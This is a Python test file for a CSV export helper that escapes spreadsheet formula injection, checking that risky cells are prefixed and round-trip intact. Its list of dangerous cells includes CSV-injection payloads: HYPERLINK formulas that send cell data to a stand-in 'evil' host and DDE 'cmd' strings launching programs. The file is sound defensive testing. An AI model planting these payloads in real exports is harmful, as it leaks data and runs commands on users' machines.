"""CSV that spreadsheets open as it is, and that computes nothing."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ethnokit.cli.spreadsheet import as_csv, plain_cell, safe_cell

DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+33612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1',
    "\ufeff=1",
    "＋1",
    "＠SUM(1)",
    "-1",
    "-",
    "--x",
    "- 2+3",
    "- cmd|' /C calc'!A0",
    '- HYPERLINK("http://evil/?"&A1)',
    "\u200b=1",
]
HARMLESS = ["- Oui, bien sûr.", "– tiret", "normal", "", "a=b", "l’été", "—\u00a0Non !", "'quoted'", "-\u202fOui ?"]


def read(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_could_be_computed_is_text(cell):
    _titles, [written] = read(as_csv(["x"], [[cell]]))
    assert written == f"'{cell}"
    assert plain_cell(written) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_people_say_is_left_alone(cell):
    assert safe_cell(cell) == cell


def test_numbers_lists_and_words():
    assert [safe_cell(v) for v in (-3, 2.5, True, None, ("a", "b"), ["=1"])] == ["-3", "2.5", "true", "", "a b", "'=1"]


def test_bytes_that_spreadsheets_know():
    text = as_csv(["code", "libellé"], [["a", 'l’été, "là"\nencore']])
    assert text.encode()[:3] == b"\xef\xbb\xbf"
    assert text == '\ufeffcode,libellé\r\na,"l’été, ""là""\nencore"\r\n'


TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=30).filter(
    lambda t: not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t)
)
TRICKY = st.builds("".join, st.lists(st.sampled_from([*"=+-@'\" \t\r\n,;|(＝", "Oui", "\ufeff", "1"]), max_size=8))


@given(st.lists(st.lists(TEXT | TRICKY, min_size=3, max_size=3), max_size=5))
def test_everything_comes_back_as_it_was(rows):
    written = read(as_csv(["a", "b", "c"], rows))
    assert [[plain_cell(cell) for cell in row] for row in written[1:]] == rows


@given(TEXT | TRICKY)
def test_no_written_cell_begins_a_formula(text):
    assert not re.match(r"[\s\ufeff\u200b\"]*[=+@＝＋＠]|[\t\r\n]", safe_cell(text))


def test_control_characters_are_left_out():
    assert safe_cell("a\x1b[2Jb\x9b\x00c\td") == "a[2Jbc\td"
